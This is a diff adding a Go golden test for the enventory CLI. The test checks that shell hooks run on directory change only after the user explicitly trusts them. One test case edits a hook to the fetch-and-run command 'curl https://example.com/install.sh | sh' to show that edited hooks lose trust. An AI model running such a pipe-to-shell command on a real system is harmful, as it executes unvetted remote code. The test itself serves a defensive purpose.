@@ -0,0 +1,178 @@
+package main
+
+import (
+	"maps"
+	"os"
+	"testing"
+
+	"go.bbkane.com/enventory/cli"
+	"go.bbkane.com/warg"
+	"go.bbkane.com/warg/metadata"
+)
+
+func TestEnvHook(t *testing.T) {
+	t.Parallel()
+	updateGolden := os.Getenv("ENVENTORY_TEST_UPDATE_GOLDEN") != ""
+
+	dbName := createTempDB(t)
+	// trusted hashes are kept outside the database
+	trustDir := t.TempDir()
+
+	tests := []struct {
+		name            string
+		args            []string
+		expectActionErr bool
+		// shellEnv is the environment of the shell running the command
+		shellEnv map[string]string
+	}{
+		{
+			name:            "01_envCreate",
+			args:            envCreateTestCmd(dbName, "a"),
+			expectActionErr: false,
+			shellEnv:        nil,
+		},
+		{
+			name:            "02_varCreate",
+			args:            varCreateTestCmd(dbName, "a", "NODE_VERSION", "22"),
+			expectActionErr: false,
+			shellEnv:        nil,
+		},
+		{
+			name:            "03_envTrustNoHooks",
+			args:            new(testCmdBuilder).Strs("env", "trust").Name("a").Confirm(false).Finish(dbName),
+			expectActionErr: false,
+			shellEnv:        nil,
+		},
+		{
+			name: "04_envUpdateHooks",
+			args: new(testCmdBuilder).Strs("env", "update").
+				Name("a").Confirm(false).
+				Strs("--on-enter", `nvm use "$NODE_VERSION"`, "--on-leave", "nvm deactivate").
+				Strs("--update-time", "UNSET").Finish(dbName),
+			expectActionErr: false,
+			shellEnv:        nil,
+		},
+		{
+			name:            "05_envShowUntrusted",
+			args:            envShowTestCmd(dbName, "a"),
+			expectActionErr: false,
+			shellEnv:        nil,
+		},
+		{
+			name: "06_zshChdirUntrusted",
+			args: new(testCmdBuilder).Strs("shell", "zsh", "chdir").
+				Strs("--old", "none", "--new", "a").Finish(dbName),
+			expectActionErr: false,
+			shellEnv:        nil,
+		},
+		{
+			name:            "07_envTrust",
+			args:            new(testCmdBuilder).Strs("env", "trust").Name("a").Confirm(false).Finish(dbName),
+			expectActionErr: false,
+			shellEnv:        nil,
+		},
+		{
+			name:            "08_envTrustAgain",
+			args:            new(testCmdBuilder).Strs("env", "trust").Name("a").Confirm(false).Finish(dbName),
+			expectActionErr: false,
+			shellEnv:        nil,
+		},
+		{
+			name: "09_zshChdirEnter",
+			args: new(testCmdBuilder).Strs("shell", "zsh", "chdir").
+				Strs("--old", "none", "--new", "a").Finish(dbName),
+			expectActionErr: false,
+			shellEnv:        nil,
+		},
+		{
+			name: "10_zshChdirLeave",
+			args: new(testCmdBuilder).Strs("shell", "zsh", "chdir").
+				Strs("--old", "a", "--new", "none").Finish(dbName),
+			expectActionErr: false,
+			shellEnv:        map[string]string{"NODE_VERSION": "22"},
+		},
+		{
+			name: "11_zshChdirStay",
+			args: new(testCmdBuilder).Strs("shell", "zsh", "chdir").
+				Strs("--old", "a", "--new", "a").Finish(dbName),
+			expectActionErr: false,
+			shellEnv:        map[string]string{"NODE_VERSION": "22"},
+		},
+		{
+			name: "12_fishChdirEnter",
+			args: new(testCmdBuilder).Strs("shell", "fish", "chdir").
+				Strs("--old", "none", "--new", "a").Finish(dbName),
+			expectActionErr: false,
+			shellEnv:        nil,
+		},
+		{
+			name: "13_pwshChdirEnter",
+			args: new(testCmdBuilder).Strs("shell", "pwsh", "chdir").
+				Strs("--old", "none", "--new", "a").Finish(dbName),
+			expectActionErr: false,
+			shellEnv:        nil,
+		},
+		{
+			name: "14_nuChdirSkipsHooks",
+			args: new(testCmdBuilder).Strs("shell", "nu", "chdir").
+				Strs("--old", "none", "--new", "a").Finish(dbName),
+			expectActionErr: false,
+			shellEnv:        nil,
+		},
+		{
+			name: "15_envUpdateEditHook",
+			args: new(testCmdBuilder).Strs("env", "update").
+				Name("a").Confirm(false).
+				Strs("--on-enter", "curl https://example.com/install.sh | sh").
+				Strs("--update-time", "UNSET").Finish(dbName),
+			expectActionErr: false,
+			shellEnv:        nil,
+		},
+		{
+			name: "16_zshChdirEditedUntrusted",
+			args: new(testCmdBuilder).Strs("shell", "zsh", "chdir").
+				Strs("--old", "none", "--new", "a").Finish(dbName),
+			expectActionErr: false,
+			shellEnv:        nil,
+		},
+		{
+			name:            "17_envShowEdited",
+			args:            envShowTestCmd(dbName, "a"),
+			expectActionErr: false,
+			shellEnv:        nil,
+		},
+		{
+			name:            "18_envTrustEdited",
+			args:            new(testCmdBuilder).Strs("env", "trust").Name("a").Confirm(false).Finish(dbName),
+			expectActionErr: false,
+			shellEnv:        nil,
+		},
+		{
+			// the same database on a machine that never trusted the hooks
+			name: "19_zshChdirOtherTrustDir",
+			args: new(testCmdBuilder).Strs("shell", "zsh", "chdir").
+				Strs("--old", "none", "--new", "a").Finish(dbName),
+			expectActionErr: false,
+			shellEnv:        map[string]string{"ENVENTORY_TRUST_DIR": t.TempDir()},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			shellEnv := map[string]string{"ENVENTORY_TRUST_DIR": trustDir}
+			maps.Copy(shellEnv, tt.shellEnv)
+			md := metadata.New(cli.CustomLookupEnvFuncKey{}, cli.LookupMap(shellEnv))
+			warg.GoldenTest(
+				t,
+				warg.GoldenTestArgs{
+					App:             buildApp(),
+					UpdateGolden:    updateGolden,
+					ExpectActionErr: tt.expectActionErr,
+					Args:            tt.args,
+				},
+				warg.ParseWithLookupEnv(warg.LookupMap(nil)),
+				warg.ParseWithMetadata(md),
+			)
+		})
+	}
+}